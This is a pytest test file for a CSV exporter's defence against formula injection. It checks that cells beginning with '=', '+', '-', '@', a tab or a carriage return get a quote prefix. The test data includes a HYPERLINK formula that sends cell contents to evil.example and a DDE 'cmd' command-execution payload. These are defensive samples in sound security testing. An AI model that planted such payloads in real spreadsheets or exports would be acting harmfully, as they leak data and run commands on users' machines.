"""The one CSV writer: a cell that a spreadsheet would run as a formula is made text."""

from __future__ import annotations

import csv
import io

import pytest

from accesshive.csv_export import csv_text, safe_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"ok")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_beginning_like_a_formula_is_prefixed_with_a_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value
    [row] = list(csv.reader(io.StringIO(csv_text(["cell"], [[value]]), newline="")))[1:]
    assert row == ["'" + value]


@pytest.mark.parametrize("value", ["Ada Lovelace", "a=b", "x@example.com", "3-1", " =x"])
def test_other_cells_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_none_is_an_empty_cell_and_commas_and_quotes_survive() -> None:
    text = csv_text(["a", "b", "c"], [[None, 'say "hi", then', 7]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["a", "b", "c"],
        ["", 'say "hi", then', "7"],
    ]
